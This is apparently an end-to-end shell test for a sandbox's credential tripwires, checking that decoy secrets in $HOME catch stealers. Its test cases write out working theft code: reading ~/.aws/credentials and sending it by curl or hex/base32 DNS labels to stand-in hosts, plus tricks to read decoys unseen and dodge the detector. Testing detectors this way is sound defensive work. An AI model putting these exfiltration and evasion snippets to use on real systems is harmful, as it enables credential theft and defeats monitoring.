#!/bin/bash
# tests/e2e/tripwire.sh — the tripwires (doc/tripwires.md), end to end, in the
# hermetic test network (tests/lib/testnet.sh), as the test user, with the
# suite's own daemon:
#
#  - the decoys are there, in their real shapes (the SSH key parses), fresh
#    each run, with their ages, and nowhere a legitimate tool reads; off, none;
#  - a hostile npm package, `npm install ./evil.tgz` (built here from
#    tests/e2e/tripwire-pkgs/evil), fires the tripwire at its read, naming
#    postinstall of evil-pkg@1.2.3 in the end-of-run summary, the audit log,
#    boxy show, boxy watch and boxy top; its DNS exfiltration (hex, 60
#    characters a label) fires the second detector, and no name carrying the
#    token reaches the resolver;
#  - nothing legitimate trips: npm install of a project with dependencies and
#    install scripts from a registry served here, pip building a source
#    distribution and installing a wheel, git clone and commit over HTTP,
#    curl, ssh connecting, python's urllib;
#  - a payload that knows boxy: O_NONBLOCK probes, O_PATH reopens, mmap, a
#    hard link, a rename, a symlink swap are all seen; /proc/locks shows no
#    lease; a token sent base64 in an HTTP body never reaches the server, in
#    base32 across short DNS labels is found; an encoding the matcher cannot
#    see (reversed, XOR) still leaves the read's alert; a stealer that lets a
#    probe or a helper claiming another package take the alerts first is
#    still named at its own read (tripwire-pkgs/evil-knows), and so is a read
#    on a thread pool or through a link named as another decoy; a flood of
#    opens and names gives one alert each, counted; another session neither
#    sees nor fires this one's wires.
set -u
here=$(cd "$(dirname "$0")/.." && pwd)
. "$here/lib/harness.sh"
. "$here/lib/testnet.sh"
harness_locate
[ "${BOXY_TESTNET_INSIDE:-}" = 1 ] || harness_as_test_user "$0" "$@"
testnet_enter "$0" "$@"
testnet_setup
tn_probe
command -v tmux >/dev/null || harness_die "tmux is not installed (tools/deps.sh installs it)"

PKGS=$BOXY_SRCDIR/tests/e2e/tripwire-pkgs
REG=http://www.example.test:4873/
DECOYS=".aws/credentials .ssh/id_ed25519_github .config/gcloud/application_default_credentials.json
	.kube/config .docker/config.json .git-credentials .config/gh/hosts.yml .pypirc
	.config/solana/id.json"

## ---- the fixtures: a registry, the hostile tarball, a git repository, a sink ----------------
mkdir -p "$TN/fixture"
python3 "$PKGS/mkregistry.py" registry "$PKGS/npm" "$TN/fixture" ||
	harness_die "could not build the registry fixture"
python3 "$PKGS/mkregistry.py" pack "$PKGS/evil" "$TN/evil.tgz" || harness_die "no evil.tgz"
python3 "$PKGS/mkregistry.py" pack "$PKGS/evil-knows" "$TN/evil-knows.tgz" ||
	harness_die "no evil-knows.tgz"
chmod -R a+rX "$TN/fixture" "$TN/evil.tgz" "$TN/evil-knows.tgz"
tn_start npm-registry python3 "$BOXY_SRCDIR/bench/npm-registry.py" serve "$TN/fixture" \
	"$TN_HTTP" 4873 "$REG"
tn_wait_tcp "$TN_HTTP" 4873
# A server that keeps every byte it is sent: what left the sandbox, in full.
: >"$TN/sink.bytes"
tn_start sink python3 -u -c '
import socketserver, sys
out = open(sys.argv[1], "ab", buffering=0)
class H(socketserver.BaseRequestHandler):
    def handle(self):
        while True:
            b = self.request.recv(65536)
            if not b:
                return
            out.write(b)
            self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer(("'"$TN_OTHER"'", 8081), H).serve_forever()' "$TN/sink.bytes"
tn_wait_tcp "$TN_OTHER" 8081
(
	cd "$TN" && git init -q --bare www/repo.git && git init -q src && cd src &&
		echo hello >README && git add README &&
		git -c user.name=t -c user.email=t@example.test commit -qm first &&
		git push -q ../www/repo.git HEAD:refs/heads/main 2>/dev/null &&
		git -C ../www/repo.git symbolic-ref HEAD refs/heads/main &&
		git -C ../www/repo.git update-server-info
) || harness_die "could not make the test repository"
chmod -R a+rX "$TN/www"

# trip_alerts: the tripwire alerts in $C/audit, one line each: "SUBJECT|REASON".
trip_alerts() {
	python3 -c '
import json, sys
for line in open(sys.argv[1]):
    try:
        d = json.loads(line)
    except ValueError:
        continue
    if d.get("layer") == "tripwire" and d.get("verdict") == "alert":
        print("%s|%s" % (d.get("subject"), d.get("reason")))' "$C/audit" 2>/dev/null
}
# trip_count: how many of them.
trip_count() { trip_alerts | grep -c .; }
# session_id: the last session the suite's daemon recorded.
session_id() { tn_boxy ps -a | awk 'NR == 2 { print $1 }'; }

## ---- the decoys are there, in their shapes, fresh each run -----------------------------------
probe='cd ~ || exit 1
	for f in '"$(echo $DECOYS)"'; do
		[ -f "$f" ] || echo "MISSING $f"
		stat -c "MODE %a %n" "$f"
		[ "$(stat -c %Y "$f")" -lt "$(( $(date +%s) - 30 * 86400 ))" ] || echo "YOUNG $f"
	done
	for f in .npmrc .netrc .gitconfig .ssh/config .ssh/id_rsa .ssh/id_ed25519 .ssh/id_ecdsa \
		.ssh/known_hosts .config/pip/pip.conf .pip/pip.conf .yarnrc .yarnrc.yml .env; do
		[ -e "$f" ] && echo "PRESENT $f"
	done
	stat -c "DIR %a %n" .ssh
	exit 0'
run_case decoys --tripwires on --net none -- sh -c "$probe"
if [ "$RC" -eq 0 ] && ! grep -qE '^(MISSING|YOUNG|PRESENT)' "$C/out" &&
	[ "$(grep -c '^MODE 600 ' "$C/out")" -eq 9 ] && grep -q '^DIR 700 .ssh$' "$C/out" &&
	[ "$(trip_count)" -eq 0 ]; then
	ok "tripwire: nine decoys in \$HOME, 0600, months old (.ssh 0700); no .npmrc, .netrc, .gitconfig, ssh config or default key; stat and ls trip nothing"
else
	fail_case "tripwire: nine decoys in \$HOME, 0600, months old; none where a tool reads" \
		"$(grep -E '^(MISSING|YOUNG|PRESENT)' "$C/out")" "alerts: $(trip_alerts)"
fi
shapes='cd ~
	ssh-keygen -y -f .ssh/id_ed25519_github >/dev/null 2>&1 && echo KEY-PARSES
	grep -oE "^aws_access_key_id = AKIA[A-Z2-7]{16}$" .aws/credentials
	grep -qE "^aws_secret_access_key = [A-Za-z0-9/+]{40}$" .aws/credentials && echo SECRET-SHAPE
	grep -qE "^https://[^:]+:ghp_[A-Za-z0-9]{36}@github.com$" .git-credentials && echo GHP-SHAPE
	python3 -c "import json; d=json.load(open(\".config/gcloud/application_default_credentials.json\")); print(\"ADC\", d[\"type\"], d[\"refresh_token\"][:4])"
	python3 -c "import json; d=json.load(open(\".docker/config.json\")); print(\"DOCKER\", len(d[\"auths\"]))"
	python3 -c "import json; print(\"SOLANA\", len(json.load(open(\".config/solana/id.json\"))))"
	exit 0'
run_case shapes1 --tripwires on --net none -- sh -c "$shapes"
first=$(grep -o 'AKIA[A-Z2-7]*' "$C/out")
n1=$(trip_count)
k1=$(trip_alerts | grep -c '^~/.ssh/id_ed25519_github|.*ssh-keygen')
run_case shapes2 --tripwires on --net none -- sh -c "$shapes"
second=$(grep -o 'AKIA[A-Z2-7]*' "$C/out")
if grep -q KEY-PARSES "$C/out" && grep -q SECRET-SHAPE "$C/out" && grep -q GHP-SHAPE "$C/out" &&
	grep -q '^ADC authorized_user 1//0$' "$C/out" && grep -q '^DOCKER 1$' "$C/out" &&
	grep -q '^SOLANA 64$' "$C/out" && [ -n "$first" ] && [ -n "$second" ] &&
	[ "$first" != "$second" ] && [ "$n1" -ge 6 ] && [ "$k1" -eq 1 ]; then
	ok "tripwire: the decoys parse as what they claim (ssh-keygen, AKIA, ghp_, JSON); tokens differ per run; each read is an alert naming its reader"
else
	fail_case "tripwire: the decoys parse as what they claim; tokens differ per run" \
		"ids: $first / $second, alerts: $n1, ssh-keygen named: $k1" "$(cat "$C/out")"
fi

## ---- on by the presets, off by the flag --------------------------------------------------------
run_case off --profile node --tripwires off --net none -- sh -c 'ls -A ~; exit 0'
R1=$RC
OFF_OUT=$(grep -E '^[.](aws|ssh|kube|docker|git-credentials|pypirc|config)$' "$C/out")
OFF_AUDIT=$(grep -c '"layer":"tripwire","verdict":"info","subject":"decoys","reason":"off:' "$C/audit")
run_case generic --net none -- sh -c 'ls -A ~; exit 0'
GEN=$(grep -c '"reason":"off:' "$C/audit")
run_case preset --profile python --net none -- sh -c 'ls -A ~; exit 0'
if [ "$R1" -eq 0 ] && [ -z "$OFF_OUT" ] && [ "$OFF_AUDIT" -eq 1 ] && [ "$GEN" -eq 1 ] &&
	grep -q '^.aws$' "$C/out" && grep -q '"reason":"on: 9 decoy credentials' "$C/audit"; then
	ok "tripwire: --tripwires off leaves \$HOME empty, the generic profile too; the python preset has them; the audit log says which"
else
	fail_case "tripwire: --tripwires off, generic and the python preset" \
		"off: '$OFF_OUT' audit $OFF_AUDIT, generic $GEN" "$(cat "$C/out")"
fi

## ---- nothing legitimate trips ---------------------------------------------------------------
mkdir -p "$TN/cases/npm-legit" && cp -r "$PKGS/npm/app/." "$TN/cases/npm-legit/"
run_case npm-legit --profile node -- npm install --registry "$REG" --no-fund
if [ "$RC" -eq 0 ] && [ -f "$C/node_modules/pad-lite/index.js" ] &&
	[ -f "$C/node_modules/colors-mini/build.json" ] &&
	[ -f "$C/node_modules/util-mini/index.js" ] && [ "$(trip_count)" -eq 0 ] &&
	grep -q '"reason":"on: 9 decoy' "$C/audit" && ! grep -q 'ALERT' "$C/err"; then
	ok "tripwire: npm install of a project with dependencies and install scripts, from the registry here, trips nothing"
else
	fail_case "tripwire: npm install from the hermetic registry trips nothing" \
		"alerts: $(trip_alerts)" "$(ls "$C/node_modules" 2>&1)"
fi
mkdir -p "$TN/cases/pip-legit" && cp -r "$PKGS/pydemo" "$TN/cases/pip-legit/pydemo"
run_case pip-legit --profile python -- sh -c '
	pip install -q --no-index --no-build-isolation --target site ./pydemo &&
	pip wheel -q --no-index --no-build-isolation -w wh ./pydemo &&
	pip install -q --no-index --target site2 wh/pydemo-1.0.0-py3-none-any.whl &&
	PYTHONPATH=site python3 -c "import pydemo; print(pydemo.hello())" &&
	PYTHONPATH=site2 python3 -c "import pydemo; print(pydemo.hello())"'
if [ "$RC" -eq 0 ] && [ "$(grep -c 'hello from pydemo' "$C/out")" -eq 2 ] &&
	[ "$(trip_count)" -eq 0 ]; then
	ok "tripwire: pip building a source distribution, and installing a wheel, trips nothing"
else
	fail_case "tripwire: pip builds and installs, tripping nothing" "alerts: $(trip_alerts)"
fi
run_case tools-legit --profile node -- sh -c '
	git clone -q http://www.example.test/repo.git r && cd r &&
	git -c user.name=t -c user.email=t@example.test commit -q --allow-empty -m second &&
	echo "commits $(git rev-list --count HEAD)" && cd .. &&
	curl -sS -m 10 --cacert ca.pem https://www.example.test/hello.txt &&
	python3 -c "import urllib.request; print(urllib.request.urlopen(\"http://www.example.test/hello.txt\").read().decode().strip())" &&
	node -e "fetch(\"http://www.example.test/hello.txt\").then(r => r.text()).then(t => console.log(\"node\", t.trim()))"
	ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
		-o ConnectTimeout=5 -p 80 git@www.example.test true 2>/dev/null
	echo "ssh exit $?"'
if grep -q '^commits 2$' "$C/out" && [ "$(grep -c 'boxy-testnet-marker' "$C/out")" -eq 3 ] &&
	grep -q '^ssh exit 255$' "$C/out" && [ "$(trip_count)" -eq 0 ]; then
	ok "tripwire: git clone and commit over HTTP, curl, python's urllib, node's fetch and ssh connecting trip nothing"
else
	fail_case "tripwire: git, curl, urllib, fetch, ssh trip nothing" "alerts: $(trip_alerts)" \
		"$(cat "$C/out")"
fi

## ---- the hostile package ----------------------------------------------------------------------
# The node preset freezes the run at a tripwire (doc/react.md; tests/e2e/react.sh
# has that); here the runs that trip are told to log, so that they run on and
# show what each detector sees.
mkdir -p "$TN/cases/evil" && cp "$TN/evil.tgz" "$TN/cases/evil/"
: >"$TN/dns.queries.before"
cp "$TN/dns.queries" "$TN/dns.queries.before"
run_case evil --profile node --on-alert log -- npm install ./evil.tgz
EVIL_ID=$(session_id)
EVIL=$C
sent=$(grep -c '^asked ' "$C/evil-sent.txt" 2>/dev/null)
upstream=$(grep -c 'exfil\.test' "$TN/dns.queries")
read_line=$(grep '^boxy: ALERT: tripwire: ~/.aws/credentials: ' "$C/err")
dns_line=$(grep '^boxy: ALERT: tripwire: exfil.test: ' "$C/err")
if [ "$RC" -eq 0 ] && [ -n "$read_line" ] &&
	[[ $read_line == *'opened by postinstall of evil-pkg@1.2.3 (node, pid '* ]]; then
	ok "tripwire: npm install ./evil.tgz: the read of ~/.aws/credentials is a red alert naming postinstall of evil-pkg@1.2.3"
	diag "$read_line"
else
	fail_case "tripwire: npm install ./evil.tgz: the read names postinstall of evil-pkg@1.2.3" \
		"read: $read_line"
fi
if [[ $dns_line == *'AWS '*'hex-encoded in the DNS names under exfil.test'* ]] && [ "$sent" -ge 3 ] &&
	python3 - "$C/audit" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    d = json.loads(line)
    if d.get("layer") == "tripwire" and d.get("subject") == "exfil.test":
        pkg = json.dumps(d)
        sys.exit(0 if "evil-pkg" in pkg and "postinstall" in pkg else 1)
sys.exit(1)
PY
then
	ok "tripwire: its DNS exfiltration (hex, 60 characters a label) is the second alert, naming the package too"
	diag "$dns_line"
else
	fail_case "tripwire: its DNS exfiltration is the second alert" "dns: $dns_line, sent $sent" \
		"$(grep exfil.test "$C/audit" | head -n 3)"
fi
# Only the names before the token's first chunk reached the resolver.
leaked=$(grep '^asked ' "$EVIL/evil-sent.txt" | awk '{print $2}' | while read -r n; do
	grep -qF "$n" "$TN/dns.queries" && echo "$n"; done | grep -vc '\.0\.exfil\.test$')
if [ "$upstream" -ge 1 ] && [ "$leaked" -eq 0 ] && grep -q '^done ' "$EVIL/evil-sent.txt"; then
	ok "tripwire: no DNS name carrying the token reached the resolver (only the first chunk's did)"
else
	fail_case "tripwire: no DNS name carrying the token reached the resolver" \
		"upstream $upstream, leaked $leaked" "$(grep exfil "$TN/dns.queries" | head -n 5)"
fi
show=$(tn_boxy show "$EVIL_ID" 2>&1)
if grep -q 'ALERT tripwire ~/.aws/credentials: .*postinstall of evil-pkg@1.2.3' <<<"$show" &&
	grep -q 'ALERT tripwire exfil.test: ' <<<"$show"; then
	ok "tripwire: boxy show lists both alerts first, the package named"
else
	fail_case "tripwire: boxy show lists both alerts" "$(head -n 12 <<<"$show")"
fi
# watch: a detached run, watched as it happens (on a pipe: one line an event).
C=$TN/cases/evil-watch
mkdir -p "$C" && cp "$TN/evil.tgz" "$C/" && chmod -R a+rwX "$C"
WID=$(cd "$C" && tn_boxy run -d --profile node --on-alert log -- \
	sh -c 'sleep 1; npm install ./evil.tgz; sleep 2' \
	2>"$C/err")
(tn_boxy watch "$WID" >"$C/watch" 2>&1) &
wpid=$!
for _ in $(seq 1 300); do kill -0 "$wpid" 2>/dev/null || break; sleep 0.1; done
kill "$wpid" 2>/dev/null
wait "$wpid" 2>/dev/null
if grep -q 'tripwire alert  *~/.aws/credentials .*postinstall of evil-pkg@1.2.3' "$C/watch" &&
	grep -q 'tripwire alert  *exfil.test' "$C/watch"; then
	ok "tripwire: boxy watch shows both alerts as they happen, the package named"
else
	fail_case "tripwire: boxy watch shows both alerts" "$(grep -i tripwire "$C/watch" | head -n 5)"
fi
# top: the stored record of the session, its alerts first and red.
TM="$TN/tmux.sock"
tm() { tn_user tmux -S "$TM" "$@"; }
trap 'tm kill-server 2>/dev/null; testnet_cleanup' EXIT
tm -f /dev/null new-session -d -s top -x 200 -y 50 \
	"cd '$EVIL' && env HOME='$TN/home' XDG_RUNTIME_DIR='$TN/run' XDG_STATE_HOME='$TN/state' TERM=xterm-256color '$BOXY' top; sleep 30"
sleep 1.5
tm send-keys -t top / e v i l . t g z Enter
sleep 1.5
tm send-keys -t top Home
sleep 0.3
tm send-keys -t top Enter
red=no
for _ in $(seq 1 50); do
	if tm capture-pane -p -e -t top | grep 'evil-pkg@1.2.3' | grep -q $'\033\\[[0-9;]*31m'; then
		red=yes
		break
	fi
	sleep 0.1
done
if [ "$red" = yes ] && tm capture-pane -p -t top | grep -q 'ALERTS: act on these'; then
	ok "tripwire: boxy top's session view lists the alerts first, in red, the package named"
else
	fail_case "tripwire: boxy top shows the alerts in red" "$(tm capture-pane -p -t top | head -n 20)"
fi
tm kill-server 2>/dev/null

## ---- a payload that knows boxy -----------------------------------------------------------------
# Every way to read a decoy without open() on its name still opens it.
tricks='cd ~
	python3 - <<"PY"
import errno, mmap, os
def tried(what, f):
    try:
        f()
        print("read", what)
    except OSError as e:
        print("refused", what, errno.errorcode.get(e.errno, e.errno))
def nonblock():
    try:
        os.close(os.open(".kube/config", os.O_RDONLY | os.O_NONBLOCK))
    except BlockingIOError:
        print("EWOULDBLOCK: a lease is there")
tried("O_NONBLOCK", nonblock)
def opath():
    fd = os.open(".docker/config.json", os.O_PATH)
    os.close(os.open("/proc/self/fd/%d" % fd, os.O_RDONLY))
tried("O_PATH reopen", opath)
def mm():
    fd = os.open(".config/gh/hosts.yml", os.O_RDONLY)
    m = mmap.mmap(fd, 0, prot=mmap.PROT_READ)
    m[:10]
tried("mmap", mm)
def link():
    os.link(".git-credentials", "gc")
    open("gc").read()
tried("hard link", link)
def rename():
    os.rename(".pypirc", "p")
    open("p").read()
tried("rename", rename)
def swap():
    os.rename(".config/solana/id.json", ".config/solana/old")
    os.symlink("/etc/hostname", ".config/solana/id.json")
tried("symlink swap", swap)
print("LOCKS", open("/proc/locks").read().count("LEASE"))
PY
	exit 0'
run_case tricks --tripwires on --net none -- sh -c "$tricks"
A=$(trip_alerts)
missing=
for want in '~/.kube/config|' '~/.docker/config.json|opened by python3' \
	'~/.config/gh/hosts.yml|opened by python3' '~/.git-credentials|(another name|opened)' \
	'~/.pypirc|' '~/.config/solana/id.json|renamed'; do
	grep -F "${want%%|*}|" <<<"$A" | grep -qE "${want#*|}" || missing="$missing $want"
done
if [ "$RC" -eq 0 ] && [ -z "$missing" ] && grep -q '^LOCKS 0$' "$C/out"; then
	ok "tripwire: O_NONBLOCK probes, O_PATH reopens, mmap, a hard link, a rename and a symlink swap are all seen; /proc/locks shows no lease"
else
	fail_case "tripwire: every way around the read is seen" "missing:$missing" "$A" \
		"$(cat "$C/out")"
fi
# Out over HTTP, base64 in the body: the connection is reset before the bytes go.
exfil_http='b=$(base64 -w0 ~/.aws/credentials)
	curl -s -m 5 -o /dev/null -w "curl %{http_code}\n" --data "d=$b" http://other.example.test:8081/up
	echo "curl exit $?"; exit 0'
run_case exfil-http --profile node --on-alert log -- sh -c "$exfil_http"
if trip_alerts | grep -q '^tcp://93.184.216.36:8081|.*AWS .*first bytes of a TCP flow to other.example.test.*base64-encoded.*reset' &&
	! grep -qa 'W2RlZmF1bHRd' "$TN/sink.bytes" && grep -q 'curl exit [1-9]' "$C/out"; then
	ok "tripwire: a token sent base64 in an HTTP body fires the wire; the connection is reset and the server never gets it"
else
	fail_case "tripwire: a token sent base64 over HTTP is stopped" "$(trip_alerts)" \
		"sink: $(head -c 300 "$TN/sink.bytes")" "$(cat "$C/out")"
fi
# Base32 cut into 10-character labels, one query each: found across the queries.
exfil_b32='python3 - <<"PY"
import base64, os, socket
s = base64.b32encode(open(os.path.expanduser("~/.aws/credentials"), "rb").read()).decode().rstrip("=")
for i in range(0, len(s), 10):
    try:
        socket.gethostbyname("%s.q%d.tunnel.test" % (s[i:i + 10], i))
    except OSError:
        pass
print("sent", len(s) // 10 + 1)
PY
	exit 0'
run_case exfil-b32 --profile node --on-alert log -- sh -c "$exfil_b32"
if trip_alerts | grep -q '^tunnel.test|.*base32-encoded in the DNS names under tunnel.test'; then
	ok "tripwire: base32 cut into 10-character labels over many queries is found"
else
	fail_case "tripwire: base32 in short labels is found" "$(trip_alerts)"
fi
# Seven-character labels, all in one query: found within the name.
exfil_short='python3 - <<"PY"
import os, socket
h = open(os.path.expanduser("~/.aws/credentials"), "rb").read().hex()[60:130]
try:
    socket.gethostbyname(".".join(h[i:i + 7] for i in range(0, len(h), 7)) + ".short.test")
except OSError:
    pass
PY
	exit 0'
run_case exfil-short --profile node --on-alert log -- sh -c "$exfil_short"
if trip_alerts | grep -q '^short.test|.*hex-encoded in the DNS names under short.test'; then
	ok "tripwire: a token in 7-character labels of one name is found"
else
	fail_case "tripwire: a token in short labels of one name is found" "$(trip_alerts)"
fi
# An O_NONBLOCK probe returns at once (the lease refuses it): unattributed, but the
# package scripts running then are named as candidates.
probe='env npm_package_name=probe-pkg npm_package_version=0.0.1 npm_lifecycle_event=postinstall \
	python3 -c "
import os, time
try:
    os.open(os.path.expanduser(\"~/.aws/credentials\"), os.O_RDONLY | os.O_NONBLOCK)
except BlockingIOError:
    print(\"refused\")
time.sleep(1)"'
run_case nonblock --tripwires on --net none -- sh -c "$probe"
if grep -q refused "$C/out" &&
	trip_alerts | grep -q '^~/.aws/credentials|.*unattributed; package scripts running then: .*probe-pkg@0.0.1'; then
	ok "tripwire: an O_NONBLOCK probe is an alert; unattributed, it names the package scripts running then"
else
	fail_case "tripwire: an O_NONBLOCK probe names the scripts running then" "$(trip_alerts)" \
		"$(cat "$C/out")"
fi
# A stealer that lets helpers take the alerts first (an O_NONBLOCK probe nobody can name, a
# reader claiming to be lodash, an orphan probing a hundred times to use up the leases),
# then reads itself: its own reads are alerts naming it, and the helper is named as what
# ran it (its claim is not believed: sandbox/attrib.h).
mkdir -p "$TN/cases/evil-knows" && cp "$TN/evil-knows.tgz" "$TN/cases/evil-knows/"
run_case evil-knows --profile node --on-alert log -- npm install ./evil-knows.tgz
A=$(trip_alerts)
if [ "$RC" -eq 0 ] && grep -q '^probe refused$' "$C/evil-knows.txt" &&
	grep -q '^read ' "$C/evil-knows.txt" &&
	grep -q '^~/.aws/credentials|.*opened by postinstall of evil-knows@1.0.0 (node, ' <<<"$A" &&
	grep -q '^~/.kube/config|.*opened by postinstall of evil-knows@1.0.0 ' <<<"$A" &&
	grep -q '^~/.config/gcloud/application_default_credentials.json|.*opened by postinstall of evil-knows@1.0.0 (node, ' <<<"$A" &&
	[ -e "$C/evil-knows.probed" ] && ! grep -q 'lodash' <<<"$A"; then
	ok "tripwire: a probe nobody can name, a helper claiming lodash, a hundred probes to use up the leases: the stealer's own reads are each named, postinstall of evil-knows"
else
	fail_case "tripwire: a probe or a claiming helper first; the stealer's own reads still named" \
		"$A" "$(cat "$C/evil-knows.txt" 2>&1)"
fi
# A read on another thread than the process's first: node's fs.promises (its thread pool), a
# Python thread. The opener blocked in open() is a thread; its process is named.
threads='node -e '"'"'require("fs").promises.readFile(require("os").homedir() + "/.aws/credentials").then(b => console.log("node read", b.length))'"'"'
	python3 -c "
import os, threading
def read():
    print(\"thread read\", len(open(os.path.expanduser(\"~/.pypirc\")).read()))
t = threading.Thread(target=read)
t.start()
t.join()"'
run_case threads --profile node --on-alert log --net none -- sh -c "$threads"
if grep -q '^node read ' "$C/out" && grep -q '^thread read ' "$C/out" &&
	trip_alerts | grep -q '^~/.aws/credentials|.*opened by node -e ' &&
	trip_alerts | grep -q '^~/.pypirc|.*opened by python3 -c '; then
	ok "tripwire: a read on a thread pool (node's fs.promises) or a Python thread names its process"
else
	fail_case "tripwire: a read on another thread names its process" "$(trip_alerts)" \
		"$(cat "$C/out")"
fi
# /proc/locks flooded past what the watch reads (30,000 locks: 1.5 MB), then a read on a
# thread: the watch looks for the waiting thread instead, and names its process.
lockflood='python3 -c "
import fcntl, os, threading
fd = os.open(\"/tmp/locks\", os.O_CREAT | os.O_RDWR)
for i in range(30000):
    fcntl.lockf(fd, fcntl.LOCK_EX, 1, 2 * i)
print(\"locks\", len(open(\"/proc/locks\").read()) > 1 << 20)
def read():
    print(\"thread read\", len(open(os.path.expanduser(\"~/.kube/config\")).read()))
t = threading.Thread(target=read)
t.start()
t.join()"'
run_case lockflood --tripwires on --net none -- sh -c "$lockflood"
if grep -q '^locks True$' "$C/out" && grep -q '^thread read ' "$C/out" &&
	trip_alerts | grep -q '^~/.kube/config|.*opened by python3 -c '; then
	ok "tripwire: /proc/locks flooded past 1 MiB, a read on a thread is still named"
else
	fail_case "tripwire: /proc/locks flooded; a read on a thread named" "$(trip_alerts)" \
		"$(cat "$C/out")"
fi
# A storm of O_NONBLOCK probes, every decoy, for 10 s: a break nobody waits for is held a
# while and costs the watch one read of /proc/locks, not a quarter of a second looking for
# an opener that never waits (2.5 s of the daemon's CPU on the build before), and the probes
# never use the leases up (there, 64 breaks a decoy did, and every probe after was let
# through): the storm's probes are refused, and after it every decoy is still leased. A
# probe may land in the moment the watch gives a held break up and takes the lease again
# (F_UNLCK, then F_WRLCK: no lease can be retaken without one), and be let through, seen by
# inotify all the same (the "opened N times" line): 2 of 16,668 on a loaded machine. At
# most one in a hundred, then; used-up leases let every probe through.
storm='python3 -c "
import os, time
h = os.path.expanduser(\"~\")
decoys = [\".aws/credentials\", \".ssh/id_ed25519_github\", \".kube/config\", \".pypirc\",
          \".config/gcloud/application_default_credentials.json\", \".docker/config.json\",
          \".git-credentials\", \".config/gh/hosts.yml\", \".config/solana/id.json\"]
t0, n, refused = time.monotonic(), 0, 0
while time.monotonic() - t0 < 10:
    for d in decoys:
        try:
            os.close(os.open(h + \"/\" + d, os.O_RDONLY | os.O_NONBLOCK))
        except BlockingIOError:
            refused += 1
        n += 1
    time.sleep(0.005)
print(\"probes\", n, \"refused\", refused)
time.sleep(1.5)
after = 0
for d in decoys:
    try:
        os.close(os.open(h + \"/\" + d, os.O_RDONLY | os.O_NONBLOCK))
    except BlockingIOError:
        after += 1
print(\"after\", after, len(decoys))"'
# The watch reads the host's /proc/locks (TW_LOCKS_MAX, 1 MiB), which lists every lock on
# the machine: while anything else holds thousands (another run of this suite, in its
# lockflood case above) each read is long — past 1 MiB the watch takes its slower path by
# wait channels, and a storm then cost the daemon 2.7 s and a first open was held 495 ms;
# below, each read holds the kernel's lock table while the watch retakes a lease, and
# probes slipped through (73 of 16,722). The cases that measure it are judged on a run no
# such flood overlapped: run_unflooded NAME ARGS... is run_case with the table's size
# sampled through it, begun when the table is quiet and made again (at most three times)
# when it passed 64 KiB (a machine's own locks are hundreds of bytes). Sets C, RC, ATTEMPT, FLOODED (yes: the last run saw a
# flood) and CPU_MS (the daemon's CPU over the last run; empty when unknown).
run_unflooded() {
	local name=$1 dpid c0 c1 sampler hz
	shift
	dpid=$(awk '$1 == "pid" { print $2 }' "$TN/state/boxy/daemon.lock" 2>/dev/null)
	hz=$(getconf CLK_TCK)
	for ATTEMPT in 1 2 3; do
		# Begun once the table is quiet (a flood lasts seconds; at most a minute here).
		for _ in $(seq 300); do
			[ "$(wc -c </proc/locks)" -ge 65536 ] || break
			sleep 0.2
		done
		rm -rf "${TN:?}/cases/$name"
		: >"$TN/locks.flooded"
		(while :; do
			[ "$(wc -c </proc/locks)" -lt 65536 ] || echo flooded >>"$TN/locks.flooded"
			sleep 0.2
		done) &
		sampler=$!
		c0=$(awk '{ print $14 + $15 }' "/proc/$dpid/stat" 2>/dev/null)
		run_case "$name" "$@"
		c1=$(awk '{ print $14 + $15 }' "/proc/$dpid/stat" 2>/dev/null)
		kill "$sampler" 2>/dev/null
		wait "$sampler" 2>/dev/null
		[ -s "$TN/locks.flooded" ] || break
	done
	FLOODED=$([ -s "$TN/locks.flooded" ] && echo yes || echo no)
	CPU_MS=
	if [ -n "$dpid" ] && [ -n "$c0" ] && [ -n "$c1" ]; then
		CPU_MS=$(((c1 - c0) * 1000 / hz))
	fi
}
run_unflooded storm --tripwires on --net none -- sh -c "$storm"
probes=$(awk '$1 == "probes" { print $2 "/" $4 }' "$C/out")
after=$(awk '$1 == "after" { print $2 "/" $3 }' "$C/out")
if [ -n "$CPU_MS" ] && [ -n "$probes" ] && [ "$FLOODED" = no ] && [ "$after" = 9/9 ] &&
	[ $((${probes#*/} * 100)) -ge $((${probes%/*} * 99)) ] && [ "$CPU_MS" -lt 1500 ]; then
	ok "tripwire: 10 s of O_NONBLOCK probes on every decoy cost the daemon $CPU_MS ms of CPU and use no lease up (${probes#*/} of ${probes%/*} probes refused, every decoy leased after; run $ATTEMPT)"
else
	fail_case "tripwire: a probe storm costs the daemon little and uses no lease up" \
		"daemon: ${CPU_MS:-?} ms of CPU; probes/refused $probes; refused after the storm $after" \
		"the host's /proc/locks past 64 KiB during run $ATTEMPT: $FLOODED" \
		"$(grep tripwire "$C/audit" | cut -c1-200 | tail -n 9)"
fi
# A link named as another decoy's file ("credentials" to ~/.kube/config): its reader is named.
run_case link-name --tripwires on --net none -- sh -c \
	'ln -s ~/.kube/config /tmp/credentials && cat /tmp/credentials >/dev/null; exit 0'
if trip_alerts | grep -q '^~/.kube/config|.*opened by cat /tmp/credentials (pid '; then
	ok "tripwire: a link named as another decoy's file does not hide its reader"
else
	fail_case "tripwire: a link named as another decoy's file; its reader named" "$(trip_alerts)"
fi
# What the matcher cannot see (reversed, XOR): the read's alert is still there.
exfil_blind='python3 - <<"PY"
import os, socket
d = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
for enc in (d[::-1].hex(), bytes(b ^ 0x5a for b in d).hex()):
    for i in range(0, len(enc), 50):
        try:
            socket.gethostbyname("%s.%d.blind.test" % (enc[i:i + 50], i))
        except OSError:
            pass
PY
	exit 0'
run_case exfil-blind --profile node --on-alert log -- sh -c "$exfil_blind"
if trip_alerts | grep -q '^~/.aws/credentials|.*opened by' && ! trip_alerts | grep -q '^blind.test|'; then
	ok "tripwire: a token reversed or XORed is not recognised on the way out (a documented limit); the read's alert names the reader"
else
	fail_case "tripwire: reversed or XORed tokens: only the read's alert" "$(trip_alerts)"
fi
# A flood: 500 opens, 200 names carrying a token: one alert each, the rest counted.
flood='for i in $(seq 500); do cat ~/.aws/credentials; done >/dev/null
	python3 - <<"PY"
import os, socket
h = open(os.path.expanduser("~/.aws/credentials"), "rb").read().hex()
for i in range(200):
    try:
        socket.gethostbyname("%s.%d.flood.test" % (h[60:120], i))
    except OSError:
        pass
PY
	exit 0'
start=$(date +%s)
